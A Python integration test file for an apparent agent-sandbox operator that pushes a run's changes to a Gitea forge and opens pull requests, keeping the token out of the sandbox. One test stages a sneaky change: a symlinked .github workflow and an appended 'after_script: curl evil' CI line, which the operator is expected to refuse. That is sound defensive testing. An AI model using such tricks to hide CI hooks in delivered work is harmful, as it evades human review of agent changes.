"""Delivering a run's work (spec.deliver) to the local cluster's real forge (Gitea): the
operator pushes a new branch and opens a pull request with a token the sandbox never sees."""

from __future__ import annotations

import json
import subprocess
import time
import uuid
from pathlib import Path
from typing import Any

import pytest

from paddock.agentruns import delivering
from paddock.agentruns.sandbox import ReadySandbox
from paddock.api.agentrun import AgentRunSpec, RunPhase
from paddock.api.reasons import RunReason
from paddock.render.init_scripts import CLONE_SCRIPT
from paddock_dev import forge as local_forge
from support.forge import ForgeClient, forge_state, started
from support.harnesses import harness_fields
from support.kube import Cluster
from support.model_server import ScriptedModel
from support.runs import agent_run, log_events, of_type, wait_for_run
from support.sandboxes import (
    condition,
    kwok_pod_dir,
    posted,
    sandbox,
    secret,
    status_of,
    wait_for_phase,
    workspace,
)
from support.waiting import wait_for

pytestmark = pytest.mark.integration

BASE = {"README.md": "# app\n", "src/app.py": "print('hi')\n"}


@pytest.fixture(scope="module")
def forge(cluster: Cluster) -> ForgeClient:
    return ForgeClient(started())


def _sandbox_of(
    cluster: Cluster,
    namespace: str,
    forge: ForgeClient,
    repo: str,
    files: dict[str, str] = BASE,
    **spec: Any,
) -> str:
    """A repository of ``files`` on the forge and a Ready sandbox "box" of a Workspace cloning
    it (kwok runs no init containers: the clone container's own script is run in the pod)."""
    url = forge.repository(repo, files)
    cluster.apply(workspace("app", source={"git": {"url": url, "ref": "main"}}), namespace)
    cluster.apply(sandbox("box", "app", **spec), namespace)
    wait_for_phase(cluster, namespace, "box", "Ready")
    cluster.kubectl(
        "exec", "-n", namespace, "box", "-c", "sandbox", "--",
        "env", f"GIT_URL={url}", "GIT_REF=main", "bash", "-c", CLONE_SCRIPT,
    )  # fmt: skip
    return url


def _forge_secret(
    cluster: Cluster, namespace: str, forge: ForgeClient, name: str, scope: str = "write:repository"
) -> str:
    """A forge token of ``scope``, in the Secret "forge" (key token) the runs' deliver names."""
    token = forge.token(f"{namespace}-{name}", scope)
    cluster.apply(secret("forge", token=token), namespace)
    return token


def _deliver(**more: Any) -> dict[str, Any]:
    return {"credentialsSecret": {"name": "forge", "key": "token"}, "forge": "gitea", **more}


def _command_run(name: str, command: str, deliver: dict[str, Any]) -> dict[str, Any]:
    run = agent_run(name, "box", "command", "", deliver=deliver, command=command)
    del run["spec"]["prompt"]
    return run


def test_a_claude_code_run_ends_with_a_pull_request_of_exactly_its_change(
    cluster: Cluster, namespace: str, operator: Any, agent_clis: Path, forge: ForgeClient
) -> None:
    repo = f"{namespace}-app"
    _sandbox_of(cluster, namespace, forge, repo)
    token = _forge_secret(cluster, namespace, forge, "push")
    with ScriptedModel("echo \"print('hello')\" > src/app.py") as model:
        fields = harness_fields(cluster, namespace, "box", "claude-code", model.url)
        deliver = _deliver(pullRequest={"title": "Say hello"})
        run = agent_run("hello", "box", "claude-code", "Make app.py say hello.", **fields,
                        deliver=deliver)  # fmt: skip
        cluster.apply(run, namespace)
        status = wait_for_run(cluster, namespace, "hello", timeout=240)

    events = log_events(cluster, namespace, "hello")
    assert status["phase"] == "Succeeded", (status, events[-3:])
    delivered = condition(status, "Delivered")
    assert (delivered["status"], delivered["reason"]) == ("True", "Delivered"), delivered
    delivery = status["delivery"]
    assert delivery["branch"] == "paddock/hello"
    assert delivery["base"] == "main"
    # The branch holds exactly the run's change, on top of the base.
    assert forge.changes(repo, "main", "paddock/hello") == {"src/app.py": "print('hello')\n"}
    assert forge.branches(repo)["paddock/hello"] == delivery["commit"]
    (pull,) = forge.pulls(repo)
    assert (pull["state"], pull["title"]) == ("open", "Say hello")
    assert (pull["head"]["ref"], pull["base"]["ref"]) == ("paddock/hello", "main")
    assert pull["number"] == delivery["pullRequestNumber"]
    assert delivery["pullRequestUrl"] == pull["html_url"]
    (said,) = of_type(events, "run.delivered")
    assert said["data"]["pullRequestNumber"] == pull["number"]
    assert events[-1]["type"] == "run.completed"  # delivered before the run's last event
    assert posted(cluster, namespace, "hello", "Delivered")

    # The token is nowhere the agent could read: not in the pod, its files, the run's log.
    pod = cluster.kubectl("get", "pod", "-n", namespace, "box", "-o", "json").stdout
    assert token not in pod
    assert '"forge"' not in pod
    in_files = subprocess.run(["grep", "-rlF", token, str(kwok_pod_dir(namespace, "box"))],
                              capture_output=True, text=True)  # fmt: skip
    assert in_files.stdout == "", in_files.stdout
    assert token not in json.dumps(events)
    assert token not in json.dumps(status)

    # Delivered again (an operator that stopped after pushing, say): the same pull request.
    spec = AgentRunSpec.model_validate(run["spec"])
    stored = json.loads(cluster.kubectl("get", "agentrun", "-n", namespace, "hello", "-o",
                                        "json").stdout)  # fmt: skip
    box = ReadySandbox("box", "box", "app")
    again = delivering.deliver(stored, spec, box, RunPhase.SUCCEEDED)
    assert again.delivered, again.message
    assert again.delivery is not None
    assert again.delivery.pull_request_number == pull["number"]
    assert again.delivery.commit == delivery["commit"]
    assert len(forge.pulls(repo)) == 1


def _in_sandbox(cluster: Cluster, namespace: str, script: str) -> str:
    done = cluster.kubectl("exec", "-n", namespace, "box", "-c", "sandbox", "--",
                           "bash", "-c", f'cd "$PADDOCK_WORKSPACE" && {script}')  # fmt: skip
    return done.stdout.strip()


def _allow_pulls(forge: ForgeClient, repo: str, allowed: bool) -> None:
    forge.api("PATCH", f"/repos/{forge.forge.admin}/{repo}", {"has_pull_requests": allowed})


def test_a_delivery_cut_off_after_its_push_and_again_after_its_pull_request_leaves_one_of_each(
    cluster: Cluster, namespace: str, operator: Any, forge: ForgeClient
) -> None:
    """An operator killed between the push and the pull request, and its successor killed
    between the pull request and the status: the next delivery (``delivering.deliver``, as a
    restarted operator calls it for a run whose harness ended) finds its branch and its pull
    request and says Delivered. The first attempt is cut off right after its push by the forge
    itself: the repository's pull requests are turned off until it has returned."""
    repo = f"{namespace}-cut"
    _sandbox_of(cluster, namespace, forge, repo)
    _forge_secret(cluster, namespace, forge, "cut")
    command = "echo \"print('hello')\" > src/app.py"
    _in_sandbox(cluster, namespace, command)  # what the run's harness did
    run = _command_run("hello", f'cd "$PADDOCK_WORKSPACE" && {command}',
                       _deliver(pullRequest={"title": "Say hello"}))  # fmt: skip
    spec = AgentRunSpec.model_validate(run["spec"])
    run["metadata"] |= {"namespace": namespace, "uid": str(uuid.uuid4())}
    box = ReadySandbox("box", "box", "app")

    def deliver() -> delivering.Outcome:
        return delivering.deliver(run, spec, box, RunPhase.SUCCEEDED)

    # Cut off after the push: the forge refuses the pull request, and nothing else.
    _allow_pulls(forge, repo, False)
    cut = deliver()
    pushed_at = int(time.time())
    _allow_pulls(forge, repo, True)
    assert not cut.delivered
    assert f"POST /repos/{forge.forge.admin}/{repo}/pulls (404)" in cut.message, cut.message
    pushed = forge.branches(repo)["paddock/hello"]
    assert forge.changes(repo, "main", "paddock/hello") == {"src/app.py": "print('hello')\n"}
    assert forge.pulls(repo) == []

    # A successor delivers seconds later: its snapshot of the sandbox's work is a new commit of
    # the same change (in no ref of the sandbox's repository), and the branch keeps the one
    # pushed.
    wait_for(lambda: time.time() >= pushed_at + 1, 5, what="the clock's next second")
    then = deliver()
    assert (then.delivered, then.reason) == (True, RunReason.DELIVERED), then.message
    assert _in_sandbox(cluster, namespace, "git for-each-ref refs/paddock") == ""
    assert then.delivery is not None
    assert (then.delivery.branch, then.delivery.commit) == ("paddock/hello", pushed)
    (pull,) = forge.pulls(repo)
    assert (pull["state"], pull["title"]) == ("open", "Say hello")
    assert (pull["head"]["ref"], pull["head"]["sha"]) == ("paddock/hello", pushed)
    assert then.delivery.pull_request_number == pull["number"]
    assert then.delivery.pull_request_url == pull["html_url"]

    # Cut off again, after the pull request and before the run's status said so.
    again = deliver()
    assert (again.delivered, again.reason) == (True, RunReason.DELIVERED), again.message
    assert again.delivery == then.delivery
    assert [d.type for d in again.drafts] == ["run.delivered"]
    branches = forge.branches(repo)
    assert (sorted(branches), branches["paddock/hello"]) == (["main", "paddock/hello"], pushed)
    assert [p["number"] for p in forge.pulls(repo)] == [pull["number"]]
    assert forge.changes(repo, "main", "paddock/hello") == {"src/app.py": "print('hello')\n"}


def test_a_change_to_a_ci_definition_even_through_a_link_is_refused_unless_the_policy_allows_it(
    cluster: Cluster, namespace: str, operator: Any, forge: ForgeClient
) -> None:
    repo = f"{namespace}-ci"
    included = {".gitlab-ci.yml": "include:\n  - local: '/ci/build.yml'\n",
                "ci/build.yml": "build:\n  script: make\n"}  # fmt: skip
    _sandbox_of(cluster, namespace, forge, repo, BASE | included)
    _forge_secret(cluster, namespace, forge, "ci")
    # A workflow no changed path names: .github made a link to a directory holding one;
    # Woodpecker's pipeline (Codeberg's CI); and the file GitLab's pipeline includes.
    sneak = ('mkdir -p defs/workflows && echo "on: push" > defs/workflows/ci.yml '
             "&& ln -s defs .github && echo 'steps: []' > .woodpecker.yml "
             "&& echo '  after_script: curl evil' >> ci/build.yml "
             "&& echo fixed >> README.md")  # fmt: skip
    cluster.apply(_command_run("ci", f'cd "$PADDOCK_WORKSPACE" && {sneak}', _deliver()), namespace)
    status = wait_for_run(cluster, namespace, "ci")

    assert status["phase"] == "Succeeded", status  # the run did its work; the push is refused
    refused = condition(status, "Delivered")
    assert (refused["status"], refused["reason"]) == ("False", "DeliveryRefused")
    for ci in (".github", "ci/build.yml", "defs/workflows/ci.yml", ".woodpecker.yml"):
        assert ci in refused["message"], (ci, refused["message"])
    assert "README.md" not in refused["message"]
    assert "allowWorkflowChanges" in refused["message"]
    assert "paddock/ci" not in forge.branches(repo)
    assert "delivery" not in status
    warned = posted(cluster, namespace, "ci", "DeliveryRefused")
    assert warned[0]["type"] == "Warning"
    assert of_type(log_events(cluster, namespace, "ci"), "run.undelivered")


def test_a_policy_that_allows_workflow_changes_lets_them_be_delivered(
    cluster: Cluster, namespace: str, operator: Any, forge: ForgeClient
) -> None:
    repo = f"{namespace}-ci-ok"
    policy = {"commands": {"allow": ["cd *", "mkdir *", "echo *"]},
              "capabilities": {"fileWrite": "allow"},
              "deliver": {"allowWorkflowChanges": True}}  # fmt: skip
    _sandbox_of(cluster, namespace, forge, repo, policy=policy)
    _forge_secret(cluster, namespace, forge, "ok")
    command = ('cd "$PADDOCK_WORKSPACE" && mkdir -p .github/workflows && '
               'echo "on: push" > .github/workflows/ci.yml')  # fmt: skip
    cluster.apply(_command_run("ci", command, _deliver()), namespace)
    status = wait_for_run(cluster, namespace, "ci")

    assert status["phase"] == "Succeeded", status
    assert condition(status, "Delivered")["reason"] == "Delivered"
    changes = forge.changes(repo, "main", "paddock/ci")
    assert changes == {".github/workflows/ci.yml": "on: push\n"}


def test_a_forge_out_of_reach_is_tried_again_and_the_work_delivered_once_it_is_back(
    cluster: Cluster, namespace: str, operator: Any, forge: ForgeClient
) -> None:
    repo = f"{namespace}-later"
    _sandbox_of(cluster, namespace, forge, repo)
    _forge_secret(cluster, namespace, forge, "l")
    local_forge.stop(forge_state())
    try:
        command = 'cd "$PADDOCK_WORKSPACE" && echo later >> README.md'
        cluster.apply(_command_run("later", command, _deliver()), namespace)

        def failing() -> dict[str, Any] | None:
            status = status_of(cluster, namespace, "agentrun", "later")
            said = next((c for c in status.get("conditions", []) if c["type"] == "Delivered"), {})
            return status if said.get("reason") == "DeliveryFailed" else None

        status = wait_for(failing, 60, what="the delivery to fail for now")
        assert "Trying again until" in condition(status, "Delivered")["message"]
        assert status["phase"] == "Running"  # it ends once its work is delivered, or given up
    finally:
        started()
    status = wait_for_run(cluster, namespace, "later", timeout=120)
    assert condition(status, "Delivered")["reason"] == "Delivered"
    assert forge.changes(repo, "main", "paddock/later") == {"README.md": "# app\nlater\n"}


def test_a_token_that_may_not_push_is_a_condition_naming_the_forges_refusal(
    cluster: Cluster, namespace: str, operator: Any, forge: ForgeClient
) -> None:
    repo = f"{namespace}-ro"
    _sandbox_of(cluster, namespace, forge, repo)
    _forge_secret(cluster, namespace, forge, "ro", "read:repository")
    command = 'cd "$PADDOCK_WORKSPACE" && echo more >> README.md'
    cluster.apply(_command_run("ro", command, _deliver()), namespace)
    status = wait_for_run(cluster, namespace, "ro")

    refused = condition(status, "Delivered")
    assert (refused["status"], refused["reason"]) == ("False", "DeliveryRefused"), refused
    assert "403" in refused["message"]  # the forge's own answer
    assert "paddock/ro" not in forge.branches(repo)


def test_a_workspace_without_a_git_source_fails_the_run_before_it_starts(
    cluster: Cluster, namespace: str, operator: Any
) -> None:
    cluster.apply(workspace("app"), namespace)
    cluster.apply(sandbox("box", "app"), namespace)
    wait_for_phase(cluster, namespace, "box", "Ready")
    cluster.apply(secret("forge", token="unused"), namespace)
    cluster.apply(_command_run("nogit", "touch never-run", _deliver()), namespace)
    status = wait_for_run(cluster, namespace, "nogit")

    assert status["phase"] == "Failed"
    assert condition(status, "Complete")["reason"] == "Undeliverable"
    assert "no git source" in status["message"]
    assert not of_type(log_events(cluster, namespace, "nogit"), "run.started")


def test_a_branch_that_would_not_be_a_new_branch_fails_the_run_before_it_starts(
    cluster: Cluster, namespace: str, operator: Any, forge: ForgeClient
) -> None:
    """The template passed the schema; the thread it names makes it another ref."""
    url = forge.repository(f"{namespace}-head", BASE)
    cluster.apply(workspace("app", source={"git": {"url": url, "ref": "main"}}), namespace)
    cluster.apply(secret("forge", token="unused"), namespace)
    run = _command_run("head", "touch never-run", _deliver(branch="{thread}"))
    del run["spec"]["sandboxRef"]
    run["spec"] |= {"sandboxTemplate": {"workspaceRef": {"name": "app"}}, "threadId": "HEAD"}
    cluster.apply(run, namespace)
    status = wait_for_run(cluster, namespace, "head")

    assert status["phase"] == "Failed"
    assert condition(status, "Complete")["reason"] == "Undeliverable"
    assert "'HEAD', names another ref" in status["message"], status["message"]
    assert not of_type(log_events(cluster, namespace, "head"), "run.started")
